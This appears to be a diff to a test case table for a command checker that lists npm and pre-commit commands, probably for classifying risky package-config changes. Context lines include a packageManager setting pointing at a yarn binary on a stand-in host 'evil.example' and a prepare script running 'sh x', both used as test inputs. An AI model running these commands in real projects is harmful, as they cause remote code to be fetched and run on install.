@@ -28,6 +28,8 @@ export const cases: CaseTable = {
     "npm pkg set packageManager=yarn@https://evil.example/yarn.js",
     "npm pkg delete pnpm.neverBuiltDependencies",
     "npm set-script prepare 'sh x'",
+    "npm pkg set scripts.prepublishOnly='node scripts/release.js'",
+    "npm pkg set scripts.postversion='git push --follow-tags'",
     'npm pkg set "$k"=x',
     "pre-commit install",
     "pre-commit install --hook-type pre-push",
